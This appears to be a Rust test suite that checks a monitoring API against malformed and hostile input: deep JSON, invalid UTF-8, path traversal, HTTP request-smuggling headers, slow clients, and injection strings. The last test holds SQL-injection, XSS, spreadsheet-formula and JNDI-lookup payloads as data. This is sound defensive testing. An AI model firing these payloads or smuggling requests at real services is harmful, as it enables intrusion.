//! The bad-input catalogue: a clear answer, nothing lost, nobody else disturbed.

use noc_tests::{Harness, TestAgent, batch, metrics};
use serde_json::{Value, json};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// The product still does its work.
async fn still_well(harness: &Harness, agent: &mut TestAgent) {
    let body = agent.payload(metrics());
    let (status, answer) = harness.post(agent, "metrics", &body).await;
    assert_eq!((status, &answer["accepted"]), (202, &json!(1)));
}

async fn post(harness: &Harness, agent: &TestAgent, path: &str, body: impl Into<Vec<u8>>) -> u16 {
    harness.post_bytes(agent, path, body.into(), &[]).await.0
}

#[actix_rt::test]
async fn depth_and_width_are_bounded() {
    let harness = Harness::start().await;
    let mut agent = harness.enrol("web-1").await;
    for open in ["[", "{\"a\":"] {
        let deep = open.repeat(100_000);
        assert_eq!(post(&harness, &agent, "metrics", deep.clone()).await, 400);
        let status = post(&harness, &agent, "batch", format!("{{\"payloads\":{deep}")).await;
        assert!(matches!(status, 400 | 422), "{status}");
    }
    // Well-formed and deep, in a field nobody knows: skipped.
    let nested = format!("{}{}", "[".repeat(50_000), "]".repeat(50_000));
    let body = agent
        .payload(metrics())
        .to_string()
        .replacen('{', &format!("{{\"x\":{nested},"), 1);
    assert_eq!(post(&harness, &agent, "metrics", body).await, 202);
    let many = format!("{{\"payloads\":[{}]}}", vec!["1"; 400_000].join(","));
    assert_eq!(post(&harness, &agent, "batch", many).await, 422);
    let over: Vec<_> = (0..501)
        .map(|_| ("metrics", agent.payload(metrics())))
        .collect();
    assert_eq!(harness.post(&agent, "batch", &batch(over)).await.0, 422);
    assert_eq!(
        harness
            .post(&agent, "batch", &json!({"payloads": []}))
            .await
            .0,
        422
    );
    still_well(&harness, &mut agent).await;
}

#[actix_rt::test]
async fn text_that_is_no_text_is_refused_or_cleaned() {
    let harness = Harness::start().await;
    let mut agent = harness.enrol("web-1").await;
    for bytes in [
        &b"{\"v\":1,\"x\":\"\xc0\xaf\"}"[..],
        b"\xff\xfe{\x00}\x00",
        b"{\"v\":1,\"x\":\"\xed\xa0\x80\"}",
        b"\xef\xbb\xbf{}",
    ] {
        assert_eq!(
            post(&harness, &agent, "metrics", bytes).await,
            400,
            "{bytes:?}"
        );
    }
    let name = "ex\\u0000im\\u202e\\ud800";
    let body = agent.payload(json!({"services": "@"})).to_string().replace(
        "\"@\"",
        &format!(r#"[{{"name":"{name}","unit":null,"installed":true,"enabled":true,"running":true,"pids":1,"main_pid":1}}]"#),
    );
    let (status, answer) = harness
        .post_bytes(&agent, "processes", body.into_bytes(), &[])
        .await;
    assert!(matches!(status, 202 | 422), "{status} {answer}");
    for logged in harness.logged(agent.server()).await {
        let text = format!("{:?}", logged.report);
        assert!(
            !text.contains('\u{202e}') && !text.contains("\\0"),
            "{text}"
        );
    }
    still_well(&harness, &mut agent).await;
}

#[actix_rt::test]
async fn duplicate_keys_and_wrong_types_are_named() {
    let harness = Harness::start().await;
    let mut agent = harness.enrol("web-1").await;
    let twice = agent
        .payload(metrics())
        .to_string()
        .replacen('{', "{\"seq\":7,", 1);
    assert_eq!(post(&harness, &agent, "metrics", twice).await, 422);
    for (field, value) in [
        ("seq", json!("12")),
        ("seq", json!(-1)),
        ("seq", json!(1.5)),
        ("v", json!(2)),
        ("observed_at", json!(1_778_155_200)),
        ("observed_at", json!("2026-05-07 12:00:00")),
        ("boot_id", json!(null)),
    ] {
        let mut body = agent.payload(metrics());
        body[field] = value.clone();
        let (status, answer) = harness.post(&agent, "metrics", &body).await;
        assert_eq!(status, 422, "{field} {value}");
        assert!(
            answer["errors"][field].is_array(),
            "{field} {value}: {answer}"
        );
    }
    for number in ["9223372036854775808", "18446744073709551616", "1e400", "-0"] {
        let body = agent
            .payload(json!({"cpu_pct": "@"}))
            .to_string()
            .replace("\"@\"", number);
        assert_eq!(
            post(&harness, &agent, "metrics", body).await,
            202,
            "{number}"
        );
        let body =
            agent
                .payload(json!({}))
                .to_string()
                .replacen("\"v\":1", &format!("\"v\":{number}"), 1);
        assert_eq!(
            post(&harness, &agent, "metrics", body).await,
            422,
            "{number}"
        );
    }
    still_well(&harness, &mut agent).await;
}

#[actix_rt::test]
async fn unknown_fields_are_passed_over() {
    let harness = Harness::start().await;
    let mut agent = harness.enrol("web-1").await;
    let mut body = agent.payload(metrics());
    body["made_by_a_later_version"] = json!({"deep": [1, 2, 3]});
    assert_eq!(harness.post(&agent, "metrics", &body).await.0, 202);
}

#[actix_rt::test]
async fn odd_paths_and_methods_find_nothing() {
    let harness = Harness::start().await;
    let agent = harness.enrol("web-1").await;
    for path in [
        "gossip",
        "metrics%00",
        "..%2f..%2fhealth",
        "..%252fhealth",
        "%2e%2e%2fregister",
        "METRICS",
    ] {
        let answer = harness
            .post_raw(&agent.bearer(), path, b"{}".to_vec(), &[])
            .await;
        assert_eq!(answer.status(), 404, "{path}");
        assert_eq!(
            answer.json::<Value>().await.unwrap()["error"],
            "not_found",
            "{path}"
        );
    }
    for path in ["metrics", "batch", "register"] {
        let answer = harness.get(&format!("/api/agent/{path}")).await;
        assert_eq!(answer.status(), 405, "{path}");
        assert_eq!(
            answer.json::<Value>().await.unwrap()["error"],
            "method_not_allowed"
        );
    }
}

/// Speaks HTTP by hand: what a library would not send.
async fn raw(harness: &Harness, request: &[u8]) -> String {
    let mut stream = TcpStream::connect(harness.addr()).await.unwrap();
    stream.write_all(request).await.unwrap();
    let mut answer = vec![0; 4096];
    let read = tokio::time::timeout(Duration::from_secs(30), stream.read(&mut answer)).await;
    let read = read.expect("an answer or a closed connection").unwrap_or(0);
    String::from_utf8_lossy(&answer[..read]).into_owned()
}

fn head(agent: &TestAgent, more: &str) -> String {
    format!(
        "POST /api/agent/metrics HTTP/1.1\r\nHost: noc\r\nAuthorization: {}\r\nContent-Type: application/json\r\n{more}\r\n",
        agent.bearer()
    )
}

#[actix_rt::test]
async fn requests_that_could_be_read_two_ways_are_refused() {
    let harness = Harness::start().await;
    let mut agent = harness.enrol("web-1").await;
    for (more, body) in [
        (
            "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
            "0\r\n\r\n",
        ),
        ("Content-Length: 2\r\nContent-Length: 3\r\n", "{}x"),
        ("Content-Length: -1\r\n", "{}"),
        ("Content-Length: +2\r\n", "{}"),
        (
            "Transfer-Encoding: chunked\r\n",
            "fffffffffffffffff\r\n{}\r\n0\r\n\r\n",
        ),
        (
            "Transfer-Encoding: gzip, chunked, identity\r\n",
            "0\r\n\r\n",
        ),
    ] {
        let answer = raw(&harness, format!("{}{body}", head(&agent, more)).as_bytes()).await;
        let refused = answer.is_empty() || answer.starts_with("HTTP/1.1 4");
        assert!(refused, "{more:?}: {answer}");
    }
    still_well(&harness, &mut agent).await;
}

#[actix_rt::test]
async fn a_body_that_stops_short_stores_nothing() {
    let harness = Harness::start().await;
    let mut agent = harness.enrol("web-1").await;
    let body = agent.payload(metrics()).to_string();
    {
        let mut stream = TcpStream::connect(harness.addr()).await.unwrap();
        let head = head(&agent, &format!("Content-Length: {}\r\n", body.len()));
        stream.write_all(head.as_bytes()).await.unwrap();
        stream
            .write_all(&body.as_bytes()[..body.len() / 2])
            .await
            .unwrap();
    }
    still_well(&harness, &mut agent).await;
    assert_eq!(harness.logged(agent.server()).await.len(), 1);
}

#[actix_rt::test]
async fn slow_clients_hold_up_nobody() {
    let harness = Harness::start().await;
    let mut agent = harness.enrol("web-1").await;
    let mut held = Vec::new();
    for _ in 0..200 {
        let mut stream = TcpStream::connect(harness.addr()).await.unwrap();
        let head = head(&agent, "Content-Length: 1000\r\n");
        stream.write_all(&head.as_bytes()[..40]).await.unwrap();
        held.push(stream);
    }
    let watch = noc_pipeline::clock::Stopwatch::start();
    still_well(&harness, &mut agent).await;
    assert!(
        watch.elapsed() < Duration::from_secs(2),
        "{:?}",
        watch.elapsed()
    );
}

#[actix_rt::test]
async fn attackers_text_is_data() {
    let harness = Harness::start().await;
    let mut agent = harness.enrol("web-1").await;
    for text in [
        "'; DROP TABLE servers; --",
        "<script>alert(1)</script>",
        "=cmd|'/c calc'!A1",
        "${jndi:ldap://x}",
    ] {
        let body = agent.payload(
            json!({"partitions": [{"mount": text, "device": text, "fstype": "ext4",
            "bytes_total": 100, "bytes_used": 50}]}),
        );
        assert_eq!(harness.post(&agent, "disks", &body).await.0, 202, "{text}");
    }
    let wide: Vec<Value> = (0..10_000)
        .map(|n| json!({"mount": format!("/{n}"), "device": "d", "fstype": "x", "bytes_total": 1, "bytes_used": 1}))
        .collect();
    let body = agent.payload(json!({"partitions": wide}));
    let (status, answer) = harness.post(&agent, "disks", &body).await;
    assert!(matches!(status, 413 | 422), "{status} {answer}");
    still_well(&harness, &mut agent).await;
}
